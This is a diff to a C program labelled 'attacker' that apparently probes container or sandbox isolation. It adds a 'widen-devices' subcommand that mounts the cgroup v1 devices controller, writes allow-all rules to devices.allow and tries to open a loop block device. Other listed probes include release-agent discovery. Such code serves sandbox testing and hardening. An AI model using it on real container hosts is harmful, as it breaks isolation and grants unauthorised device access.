@@ -231,6 +231,20 @@ static int print_seals(const char* path) {
     return 0;
 }
 
+// More devices by the v1 controller: what its root says through a mount of our own, and what mknod(2) says then.
+static int widen_devices(void) {
+    mkdir("/tmp/cgroup", 0755);
+    if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, "devices") < 0) return printf("mount %s\n", strerrorname_np(errno)), 0;
+    static const char* const rules[] = {"a", "c *:* rwm", "b 7:0 rwm"};
+    for (int i = 0; i < 3; ++i) {
+        int fd = open("/tmp/cgroup/devices.allow", O_WRONLY | O_CLOEXEC);
+        if (fd < 0 || write(fd, rules[i], strlen(rules[i])) < 0) printf("allow %s\n", strerrorname_np(errno));
+        if (fd >= 0) close(fd);
+    }
+    umount2("/tmp/cgroup", MNT_DETACH);
+    return open_device("b", "7:0");
+}
+
 int main(int argc, char** argv) {
     if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
     if (argc == 3 && !strcmp(argv[1], "hunt")) return hunt(argv[2]);
@@ -241,9 +255,10 @@ int main(int argc, char** argv) {
     if (argc == 3 && !strcmp(argv[1], "connect")) return connect_to(argv[2]);
     if (argc == 3 && !strcmp(argv[1], "hello")) return hello(argv[2]);
     if (argc == 4 && !strcmp(argv[1], "device")) return open_device(argv[2], argv[3]);
+    if (argc == 2 && !strcmp(argv[1], "widen-devices")) return widen_devices();
     if (argc == 3 && !strcmp(argv[1], "release-agent")) return find_release_agent(argv[2]);
     if (argc == 3 && !strcmp(argv[1], "seals")) return print_seals(argv[2]);
     fprintf(stderr, "attacker: swap A B | hunt FILE | init-hunt FILE | type TEXT | connect PATH | hello PATH |\n"
-                    "  device b|c MAJOR:MINOR | release-agent CONTROLLER | seals PATH\n");
+                    "  device b|c MAJOR:MINOR | release-agent CONTROLLER | seals PATH | seize FILE | init-exe FILE | widen-devices\n");
     return 98;
 }
